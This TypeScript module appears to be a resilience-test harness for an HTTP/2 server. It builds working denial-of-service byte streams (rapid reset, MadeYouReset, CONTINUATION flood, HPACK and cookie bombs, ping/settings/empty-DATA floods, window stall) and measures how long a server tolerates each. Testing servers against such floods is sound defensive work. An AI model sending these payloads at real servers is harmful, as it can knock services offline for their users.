import { setTimeout as pause } from "node:timers/promises";
import {
  encodeFields,
  encodeFrame,
  frameFlags,
  frameTypes,
  http2Preface,
  requestFields,
  uint32,
} from "@monolake/test-kit";

/** What one attacker sends, chunk after chunk, for as long as its connection lets it. */
export type AttackBytes = Generator<Buffer>;

const { headers, rstStream, continuation, data, ping, settings, windowUpdate } = frameTypes;
const { endHeaders, endStream } = frameFlags;
const get = requestFields();
const post = requestFields([["content-length", "3"]], "POST");

/** Client stream ids, one after the other. */
function* streamIds(): Generator<number> {
  for (let streamId = 1; streamId < 2 ** 31; streamId += 2) yield streamId;
}

/** 100 of them in one chunk. */
function* inChunks(frames: () => Generator<Buffer>): AttackBytes {
  const source = frames();
  for (;;) yield Buffer.concat(Array.from({ length: 100 }, () => source.next().value as Buffer));
}

const rapidReset = () =>
  inChunks(function* () {
    for (const streamId of streamIds()) {
      yield encodeFrame(headers, endHeaders | endStream, streamId, get);
      yield encodeFrame(rstStream, 0, streamId, uint32(8));
    }
  });

/** The server resets: bodies that are shorter than their length. */
const madeYouReset = () =>
  inChunks(function* () {
    for (const streamId of streamIds()) {
      yield encodeFrame(headers, endHeaders, streamId, post);
      yield encodeFrame(data, endStream, streamId, Buffer.from("ab"));
    }
  });

/** A header block that never ends. */
function* continuationFlood(): AttackBytes {
  yield encodeFrame(headers, endStream, 1, get);
  const block = encodeFields([["x-padding", "y".repeat(4_000)]]);
  for (;;) yield encodeFrame(continuation, 0, 1, block);
}

/** Thousands of one-byte fields, which the dynamic table makes from one byte each (HTTP/2 bomb). */
const headerBomb = () =>
  inChunks(function* () {
    // Literal with incremental indexing: the first entry of the dynamic table from then on.
    const entry = Buffer.concat([
      Buffer.from([0x40, 1]),
      Buffer.from("a"),
      Buffer.from([1]),
      Buffer.from("b"),
    ]);
    for (const streamId of streamIds()) {
      const block = Buffer.concat([get, entry, Buffer.alloc(16_000, 0xbe)]);
      yield encodeFrame(headers, endHeaders | endStream, streamId, block);
    }
  });

const cookieBomb = () =>
  inChunks(function* () {
    const crumbs = encodeFields(Array.from({ length: 2_000 }, () => ["cookie", "a"] as const));
    for (const streamId of streamIds())
      yield encodeFrame(headers, endHeaders | endStream, streamId, Buffer.concat([get, crumbs]));
  });

const flood = (frame: Buffer) =>
  inChunks(function* () {
    for (;;) yield frame;
  });

function* emptyData(): AttackBytes {
  yield encodeFrame(headers, endHeaders, 1, requestFields([], "POST"));
  yield* flood(encodeFrame(data, 0, 1));
}

/** A hundred large answers, of which nothing is taken: the client opens no window. */
function* windowStall(): AttackBytes {
  const zeroWindow = Buffer.from([0, 4, 0, 0, 0, 0]);
  yield encodeFrame(settings, 0, 0, zeroWindow);
  const large = requestFields([], "GET", "/large");
  for (let streamId = 1; streamId < 200; streamId += 2)
    yield encodeFrame(headers, endHeaders | endStream, streamId, large);
  // Something to be alive with, which opens nothing.
  yield encodeFrame(windowUpdate, 0, 0, uint32(1_000_000));
}

/** An attack, and whether it has to be over at once; else the connection lasts as long as its timeouts say. */
export interface Http2Attack {
  readonly bytes: () => AttackBytes;
  readonly endsAtOnce: boolean;
}

export const http2Attacks: Readonly<Record<string, Http2Attack>> = {
  "rapid-reset": { bytes: rapidReset, endsAtOnce: true },
  "made-you-reset": { bytes: madeYouReset, endsAtOnce: true },
  "continuation-flood": { bytes: continuationFlood, endsAtOnce: true },
  "header-bomb": { bytes: headerBomb, endsAtOnce: true },
  "cookie-bomb": { bytes: cookieBomb, endsAtOnce: true },
  "ping-flood": { bytes: () => flood(encodeFrame(ping, 0, 0, Buffer.alloc(8))), endsAtOnce: true },
  "settings-flood": { bytes: () => flood(encodeFrame(settings, 0, 0)), endsAtOnce: true },
  "empty-data-flood": { bytes: emptyData, endsAtOnce: true },
  "window-stall": { bytes: windowStall, endsAtOnce: false },
};

/** What came of one attacking connection. */
export interface AttackOutcome {
  /** From the first byte until the server had closed; at most `maxMs`. */
  readonly lastedMs: number;
  readonly sentBytes: number;
}

/** The part of a socket that an attack needs. */
interface Attacked {
  readonly closed: Promise<unknown>;
  write(bytes: Buffer): boolean;
  drained(): Promise<void>;
  destroy(): void;
}

/** Sends `bytes` until the server closes, or `maxMs` are over. */
export async function runAttack(
  attacked: Attacked,
  bytes: AttackBytes,
  maxMs: number,
): Promise<AttackOutcome> {
  const startedMs = performance.now();
  let over = false;
  let sentBytes = 0;
  const ended = Promise.race([attacked.closed, pause(maxMs, undefined, { ref: false })]).then(() => {
    over = true;
  });
  attacked.write(Buffer.concat([http2Preface, encodeFrame(settings, 0, 0)]));
  for (const chunk of bytes) {
    if (over) break;
    sentBytes += chunk.length;
    if (!attacked.write(chunk)) await Promise.race([attacked.drained(), ended]);
    else await new Promise((resolve) => setImmediate(resolve));
  }
  await ended;
  const lastedMs = performance.now() - startedMs;
  attacked.destroy();
  return { lastedMs, sentBytes };
}
